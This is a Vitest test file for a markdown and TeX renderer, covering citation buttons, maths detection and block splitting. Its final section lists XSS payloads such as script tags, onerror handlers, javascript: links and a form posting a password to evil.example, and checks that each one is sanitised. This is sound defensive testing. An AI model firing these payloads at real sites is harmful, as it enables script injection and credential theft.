import { describe, expect, it } from "vitest";
import { renderBlock, splitBlocks, wireMarkers } from "../src/text/markdown";
import { drawMaths } from "../src/text/drawing";
import { protectTableMaths } from "../src/text/maths";

function render(text: string, known: readonly number[] = []): HTMLElement {
  const place = document.createElement("div");
  for (const source of splitBlocks(text)) place.append(renderBlock(source));
  wireMarkers(place, new Map(known.map((number) => [number, `Book, page ${number}`])));
  return place;
}
const formulas = (place: HTMLElement) => [...place.querySelectorAll<HTMLElement>("[data-tex]")].map((one) => one.dataset["tex"]);

describe("source markers", () => {
  it("become buttons when the source is known, and stay text when not", () => {
    const place = render("Stable [1], but [7] is not. See [2, 3] and [1][2].", [1, 2, 3]);
    const buttons = [...place.querySelectorAll("button.cite")];
    expect(buttons.map((one) => one.textContent)).toEqual(["1", "2", "3", "1", "2"]);
    expect(buttons[0]?.getAttribute("aria-label")).toBe("Source 1: Book, page 1");
    expect(place.textContent).toContain("[7]");
  });

  it("leave links, code and array indexes alone", () => {
    const place = render("[1](https://example.org) and `a[1]` and $x_[1]$\n\n    b[1]\n", [1]);
    expect(place.querySelectorAll("button.cite")).toHaveLength(0);
    expect(place.querySelector("a")?.getAttribute("href")).toBe("https://example.org");
  });
});

describe("maths", () => {
  it("is found in every usual delimiter", () => {
    const place = render("a $x^2$ b \\(y_1\\) c\n\n$$\nz = 1\n$$\n\n\\[\nw < 2\n\\]\n\n\\begin{align}a&=b\\end{align}\n");
    expect(formulas(place)).toEqual(["x^2", "y_1", "z = 1", "w < 2", "\\begin{align}a&=b\\end{align}"]);
    expect(place.querySelectorAll("[data-display]")).toHaveLength(3);
  });

  it("is not found in money or code", () => {
    expect(formulas(render("It costs $5 and $10, or `$x$`.\n\n```\n$y$\n```\n"))).toEqual([]);
  });

  it("may hold bars inside a table", () => {
    const place = render("| a | b |\n|---|---|\n| $|x| \\le |y|$ | $\\|A\\|$ |\n");
    expect(place.querySelectorAll("td")).toHaveLength(2);
    expect(formulas(place)).toEqual(["\\vert x\\vert \\le \\vert y\\vert", "\\Vert A\\Vert"]);
  });

  it("keeps bars in fenced code and array column rules", () => {
    const text = "```\n| $|x|$ |\n```\n| $\\begin{array}{c|c}1\\end{array}$ |";
    expect(protectTableMaths(text)).toBe(text);
  });

  it("is drawn into nodes, and bad TeX stays readable", async () => {
    Object.defineProperty(document, "fonts", { value: { add: () => undefined }, configurable: true });
    globalThis.FontFace ??= class {} as unknown as typeof FontFace;
    document.adoptedStyleSheets ??= [];
    CSSStyleSheet.prototype.replaceSync ??= () => undefined as never;
    const place = render("$x^2$ and $\\frac{1$ and $\\href{javascript:alert(1)}{x}$");
    drawMaths(place, document);
    await expect.poll(() => place.querySelector(".katex")).not.toBeNull();
    expect(place.querySelector(".tex-error")?.textContent).toBe("\\frac{1");
    expect(place.innerHTML).not.toContain("javascript:alert(1)\"");
    expect(place.querySelector("a")).toBeNull();
  });
});

describe("blocks", () => {
  it("of a growing text keep their source, so only the last is drawn again", () => {
    const whole = "First paragraph.\n\n- one\n- two\n\n$$a$$\n\nLast paragraph";
    const earlier = splitBlocks(whole.slice(0, -5));
    const later = splitBlocks(whole);
    expect(later.slice(0, -1)).toEqual(earlier.slice(0, -1));
  });

  it("are the same for CRLF and LF", () => {
    const text = "# A\n\n- b\n- c\n\n```\nd\n```\n";
    expect(splitBlocks(text.replaceAll("\n", "\r\n"))).toEqual(splitBlocks(text));
  });

  it("never throw on a text cut at any place", () => {
    const whole = "**a** $x$ | b |\n|---|\n| $|x|$ |\n\n```py\ncode\n```\n[1](http://a \"t\") \\[ \\frac{1}{2} \\] <b>";
    for (let cut = 0; cut <= whole.length; cut++) expect(() => render(whole.slice(0, cut))).not.toThrow();
  });
});

describe("hostile text", () => {
  const ATTACKS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](vbscript:msgbox(1))",
    '[x](https://a.org "onmouseover=alert(1) x")',
    "![x](https://tracker.example/pixel.png)",
    "<a href='javascript:alert(1)'>x</a>",
    "<button data-cite=1 onclick=alert(1)>1</button>",
    "<form action=https://evil.example><input name=password></form>",
    "<style>*{display:none}</style>",
    '$"><img src=x onerror=alert(1)>$',
    "$$</div><script>alert(1)</script>$$",
    "`<img src=x onerror=alert(1)>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "<div id=lyceum><div style=position:fixed>x</div></div>",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<!--<img src=x onerror=alert(1)>-->",
    "&lt;img src=x onerror=alert(1)&gt; &#60;script&#62;",
  ];
  const FORBIDDEN = "script,img,svg,math,iframe,form,input,style,object,embed,link,base,meta,[style],[id],[class]:not(.scroll)";

  for (const attack of ATTACKS) {
    it(`stays text: ${attack.slice(0, 48).replaceAll("\n", "⏎")}`, () => {
      const place = render(attack);
      expect(place.querySelector(FORBIDDEN)).toBeNull();
      for (const element of place.querySelectorAll("*")) {
        for (const { name, value } of element.attributes) {
          expect(name.startsWith("on")).toBe(false);
          if (name === "href") expect(value).toMatch(/^(https?:|mailto:)/);
        }
      }
    });
  }
});
